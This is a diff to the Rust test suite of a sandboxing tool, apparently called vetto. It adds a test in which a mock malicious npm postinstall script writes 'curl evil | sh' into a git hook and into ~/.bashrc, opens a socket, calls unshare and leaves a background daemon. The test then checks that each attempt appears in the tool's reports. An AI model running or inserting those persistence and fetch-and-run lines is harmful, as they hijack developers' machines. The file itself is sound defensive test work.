@@ -218,7 +218,7 @@ fn require(test: &str, feature: &str) -> bool {
     }
     let promised = std::env::var("VETTO_TEST_REQUIRE").is_ok_and(|list| {
         list.split(',').any(|f| {
-            let f = f.trim();
+            let f = f.trim().replace('-', "_");
             f == "all" || f == feature
         })
     });
@@ -517,4 +517,157 @@ fn the_job_dies_of_sigpipe_as_it_would_outside() {
         let ran = w.vetto(&args);
         assert!(ran.stderr.contains("yes:141"), "{args:?}: {}", ran.stderr);
     }
+}
+
+// ───────────────────────────── end to end ─────────────────────────────
+
+/// `vetto ci` in a git repository whose dependency `node_modules/evil` runs
+/// a postinstall script that tries the classic moves: plant a git hook,
+/// write the shell profile, open a network socket, create a user namespace,
+/// leave a daemon behind. Every attempt must be in every report, named with
+/// its process, and the hook attempt attributed to the package `evil`; the
+/// SARIF is schema-valid, located inside the repository and fingerprinted
+/// stably across two identical runs. Runs as an unprivileged user.
+#[test]
+fn ci_reports_every_attack_of_a_malicious_postinstall_with_its_package() {
+    if !require("ci_reports_every_attack", "seccomp_notify") {
+        return;
+    }
+    let w = World::new();
+    w.write(
+        "project/package.json",
+        br#"{"name":"demo","version":"1.0.0"}"#,
+    );
+    std::fs::create_dir_all(w.project.join("node_modules/evil")).unwrap();
+    w.write(
+        "project/node_modules/evil/package.json",
+        br#"{"name":"evil","version":"6.6.6"}"#,
+    );
+    w.write(
+        "project/node_modules/evil/postinstall.sh",
+        b"echo 'curl evil | sh' > .git/hooks/pre-commit\n\
+          echo 'curl evil | sh' >> \"$HOME/.bashrc\"\n\
+          python3 -c 'import socket; socket.socket()' 2>/dev/null\n\
+          unshare -Ur true 2>/dev/null\n\
+          setsid sleep 300 > /dev/null 2>&1 < /dev/null &\n\
+          echo installed\n",
+    );
+    for args in [
+        &["init", "-q"][..],
+        &["add", "-A"],
+        &[
+            "-c",
+            "user.email=t@t",
+            "-c",
+            "user.name=t",
+            "commit",
+            "-qm",
+            "init",
+        ],
+    ] {
+        let ran = run(w.command("git", args));
+        assert_eq!(ran.code, Some(0), "git {args:?}: {}", ran.stderr);
+    }
+    w.give_away(&w.project);
+
+    let report = w.report_dir();
+    let report_arg = report.to_str().unwrap().to_owned();
+    let ci = || {
+        let _ = std::fs::remove_dir_all(&report);
+        let ran = w.vetto(&[
+            "ci",
+            "--tier",
+            "fs-only",
+            "--report-dir",
+            &report_arg,
+            "--",
+            "sh",
+            "node_modules/evil/postinstall.sh",
+        ]);
+        assert_eq!(
+            ran.code,
+            Some(3),
+            "passed with violations → 3\n{}",
+            ran.stderr
+        );
+        let sarif: Value =
+            serde_json::from_slice(&std::fs::read(report.join("vetto.sarif")).unwrap()).unwrap();
+        let html = std::fs::read_to_string(report.join("report.html")).unwrap();
+        let summary = std::fs::read_to_string(report.join("summary.md")).unwrap();
+        assert!(report.join("session.jsonl").is_file());
+        (sarif, html, summary)
+    };
+    let (sarif, html, summary) = ci();
+
+    let schema: Value =
+        serde_json::from_str(include_str!("fixtures/sarif-schema-2.1.0.json")).unwrap();
+    let validator = jsonschema::validator_for(&schema).unwrap();
+    let errors: Vec<String> = validator
+        .iter_errors(&sarif)
+        .map(|e| e.to_string())
+        .collect();
+    assert!(errors.is_empty(), "SARIF not schema-valid: {errors:?}");
+
+    let results = sarif["runs"][0]["results"].as_array().unwrap().clone();
+    let rules: Vec<&str> = results
+        .iter()
+        .filter_map(|r| r["ruleId"].as_str())
+        .collect();
+    for expected in [
+        "git-persistence-blocked",
+        "fs-write-denied",
+        "net-socket-denied",
+        "syscall-denied",
+        "process-escaped",
+    ] {
+        assert!(
+            rules.contains(&expected),
+            "{expected} missing from {rules:?}"
+        );
+        assert!(
+            html.contains(expected),
+            "{expected} missing from report.html"
+        );
+        assert!(
+            summary.contains(expected),
+            "{expected} missing from summary.md"
+        );
+    }
+    for r in &results {
+        let uri = r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
+            .as_str()
+            .unwrap_or_default();
+        assert!(
+            !uri.is_empty() && !uri.starts_with('/'),
+            "a result located outside the repository: {r}"
+        );
+    }
+    let hook = results
+        .iter()
+        .find(|r| r["ruleId"] == "git-persistence-blocked")
+        .unwrap();
+    assert!(
+        hook.to_string().contains("evil"),
+        "not attributed to evil: {hook}"
+    );
+    assert!(
+        html.contains("evil"),
+        "report.html does not name the package"
+    );
+
+    let fingerprints = |results: &[Value]| {
+        let mut f: Vec<String> = results
+            .iter()
+            .map(|r| r["partialFingerprints"].to_string())
+            .collect();
+        f.sort();
+        f
+    };
+    let (again, _, _) = ci();
+    let again = again["runs"][0]["results"].as_array().unwrap().clone();
+    assert_eq!(
+        fingerprints(&results),
+        fingerprints(&again),
+        "fingerprints changed between two identical runs"
+    );
 }
